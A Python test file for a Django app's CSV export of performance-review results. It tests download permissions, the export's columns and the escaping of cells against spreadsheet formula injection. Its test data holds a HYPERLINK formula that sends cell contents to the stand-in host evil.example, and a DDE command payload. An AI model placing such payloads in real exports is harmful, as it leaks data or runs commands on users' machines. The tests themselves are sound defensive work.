"""The cycle's results as CSV: who may download it, what it holds, and that no cell is a formula."""

import csv
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from assessments import workflow
from assessments.models import Assessment
from assessments.services import start_assessment
from tests.assessments.conftest import answer_all, make_cycle, review_all
from tests.default_scale import Outcome
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def person(username: str, first: str, last: str = ""):
    return UserFactory(username=username, first_name=first, last_name=last)


def reviewed(cycle, engineer, reviewer, *, own=3, theirs=2, outcome=Outcome.AT):
    level = cycle.framework.levels.get(code="IC5")
    engineer.manager, engineer.track, engineer.level_code = reviewer, level.track, "IC5"
    engineer.save(update_fields=["manager", "track", "level_code"])
    assessment = start_assessment(cycle=cycle, engineer=engineer)
    answer_all(assessment, own)
    workflow.submit(assessment, by=engineer)
    review_all(assessment, reviewer, theirs, outcome)
    assessment.refresh_from_db()
    return assessment


@pytest.fixture
def results(cycle, ic5, manager, calibrator, calibrators):
    """Reviewed people whose names and reasons try to be formulas, and one draft."""
    manager.first_name, manager.last_name = "+Mona", "Manager"
    manager.save(update_fields=["first_name", "last_name"])
    hyper = reviewed(cycle, person("hyper", HYPERLINK), manager, own=3, theirs=2)
    workflow.record_decision(hyper, by=calibrator, outcome=Outcome.STRONG, reason="+1 for it")
    minus = reviewed(cycle, person("minus", "Min", "Us"), manager, own=4, theirs=4)
    workflow.record_decision(minus, by=calibrator, outcome=Outcome.AT, reason="-2 from last half")
    at = reviewed(cycle, person("@at-user", "At", "Sign"), manager, own=2, theirs=2)
    workflow.record_decision(
        at, by=calibrator, outcome=Outcome.AT, reason="@SUM(1+1)*cmd|'/C calc'!A0"
    )
    tab = reviewed(cycle, person("tab", "Tab", "Start"), manager)
    cr = reviewed(cycle, person("cr", "Carriage", "Return"), manager)
    # The workflow trims a reason; one that came in another way may still start so.
    Assessment.objects.filter(pk=tab.pk).update(calibration_reason="\t=1+1")
    Assessment.objects.filter(pk=cr.pk).update(calibration_reason="\r=1+1")
    level = cycle.framework.levels.get(code="IC5")
    drafter = person("drafter", "Dora", "Draft")
    drafter.manager, drafter.track, drafter.level_code = manager, level.track, "IC5"
    drafter.save(update_fields=["manager", "track", "level_code"])
    draft = start_assessment(cycle=cycle, engineer=drafter)
    answer_all(draft, 4)
    return {"hyper": hyper, "minus": minus, "at": at, "tab": tab, "cr": cr, "draft": draft}


def csv_url(cycle) -> str:
    return reverse("assessments:results-csv", args=[cycle.pk])


def download(client, cycle) -> list[dict[str, str]]:
    response = client.get(csv_url(cycle))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]], rows


def by_username(rows) -> dict[str, dict[str, str]]:
    return {row["Username"].removeprefix("'"): row for row in rows}


def test_the_export_is_an_attachment_with_a_row_per_assessment(client, cycle, results, calibrator):
    client.force_login(calibrator)
    response = client.get(csv_url(cycle))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="2026-h2-review-results.csv"'
    rows, raw = download(client, cycle)
    assert raw[0][:6] == ["Engineer", "Username", "Level", "Track", "Reviewer", "Status"]
    assert raw[0][-2:] == ["Craft self", "Craft manager"]
    assert len(raw[0]) == 11 + 16
    assert set(by_username(rows)) == {"hyper", "minus", "@at-user", "tab", "cr", "drafter"}


def test_no_cell_starts_like_a_formula(client, cycle, results, calibrator):
    client.force_login(calibrator)
    rows, raw = download(client, cycle)
    for line in raw:
        for value in line:
            assert not value.startswith(TRIGGERS), value
    people = by_username(rows)
    assert people["hyper"]["Engineer"] == "'" + HYPERLINK
    assert people["hyper"]["Reviewer"] == "'+Mona Manager"
    assert people["hyper"]["Calibration reason"] == "'+1 for it"
    assert people["minus"]["Calibration reason"] == "'-2 from last half"
    assert people["@at-user"]["Username"] == "'@at-user"
    assert people["@at-user"]["Calibration reason"] == "'@SUM(1+1)*cmd|'/C calc'!A0"
    assert people["tab"]["Calibration reason"] == "'\t=1+1"
    assert people["cr"]["Calibration reason"] == "'\r=1+1"


def test_the_results_hold_outcomes_and_area_averages_once_reviewed(
    client, cycle, results, calibrator
):
    client.force_login(calibrator)
    people = by_username(download(client, cycle)[0])
    hyper = people["hyper"]
    assert (hyper["Level"], hyper["Status"]) == ("IC5", "Calibrated")
    assert (hyper["Proposed outcome"], hyper["Calibrated outcome"]) == (
        "At level",
        "Strong at level",
    )
    assert (hyper["Scope self"], hyper["Scope manager"]) == ("3.00", "2.00")
    assert (hyper["Craft self"], hyper["Craft manager"]) == ("3.00", "2.00")
    assert people["minus"]["Talent manager"] == "4.00"
    assert people["tab"]["Status"] == "Reviewed"
    assert people["tab"]["Calibrated outcome"] == ""
    # A draft is listed, but its scores are the engineer's work in progress.
    draft = people["drafter"]
    assert draft["Status"] == "Draft"
    assert all(draft[k] == "" for k in draft if k.endswith((" self", " manager")))
    assert draft["Proposed outcome"] == draft["Reviewed"] == ""


def test_only_admins_and_the_cycles_calibrators_download(
    client, cycle, results, admin_user, calibrator, engineer, manager, other_manager
):
    editor = UserFactory(username="ladder-editor", is_staff=True)
    editor.user_permissions.add(Permission.objects.get(codename="change_framework"))
    elsewhere = make_cycle(cycle.framework, name="Elsewhere")
    elsewhere.calibrators = Group.objects.create(name="Elsewhere committee")
    elsewhere.save(update_fields=["calibrators"])
    other_committee = UserFactory(username="elsewhere")
    other_committee.groups.add(elsewhere.calibrators)
    expected = {
        admin_user: 200,
        calibrator: 200,
        engineer: 404,
        manager: 404,
        other_manager: 404,
        editor: 404,
        other_committee: 404,
        results["hyper"].engineer: 404,
    }
    for who, status in expected.items():
        client.force_login(who)
        assert client.get(csv_url(cycle)).status_code == status, who
    client.logout()
    assert client.get(csv_url(cycle)).status_code == 302


def test_a_calibrators_own_row_is_left_out(client, cycle, results, calibrator, manager, admin_user):
    calibrator.first_name, calibrator.last_name = "Cal", "Brator"
    calibrator.save(update_fields=["first_name", "last_name"])
    reviewed(cycle, calibrator, manager, own=1, theirs=1, outcome=Outcome.BELOW)
    client.force_login(calibrator)
    assert "calibrator" not in by_username(download(client, cycle)[0])
    client.force_login(admin_user)
    assert by_username(download(client, cycle)[0])["calibrator"]["Status"] == "Reviewed"


def test_whoever_runs_cycles_reads_progress_and_shared_outcomes_but_no_score_or_reason(
    client, cycle, results, admin_user, calibrator
):
    client.force_login(admin_user)
    rows, raw = download(client, cycle)
    assert raw[0] == [
        *["Engineer", "Username", "Level", "Track", "Reviewer", "Status", "Submitted"],
        "Shared outcome",
    ]
    people = by_username(rows)
    assert people["hyper"]["Status"] == "Calibrated"
    # Decided, but not yet shared with the engineer: not for whoever runs the cycle.
    assert people["hyper"]["Shared outcome"] == ""
    text = "\n".join(",".join(line) for line in raw)
    assert "for it" not in text
    assert "last half" not in text
    for waiting in (results["tab"], results["cr"]):
        workflow.record_decision(waiting, by=calibrator, outcome=Outcome.AT, reason="Fine.")
    workflow.close_calibration(cycle, by=calibrator, confirmed=True)
    people = by_username(download(client, cycle)[0])
    assert people["hyper"]["Shared outcome"] == "Strong at level"
    assert people["drafter"]["Shared outcome"] == ""


def test_the_export_runs_the_same_queries_for_two_or_five_people(
    client, cycle, ic5, manager, calibrator, calibrators, django_assert_num_queries
):
    for n in range(2):
        reviewed(cycle, person(f"first-{n}", "First", str(n)), manager)
    client.force_login(calibrator)
    client.get(csv_url(cycle))
    # Session with user, cycle, groups; levels, the areas (a column pair each), assessments,
    # averages.
    with django_assert_num_queries(7):
        client.get(csv_url(cycle))
    for n in range(3):
        reviewed(cycle, person(f"more-{n}", "More", str(n)), manager)
    with django_assert_num_queries(7):
        rows, _raw = download(client, cycle)
    assert len(rows) == 5
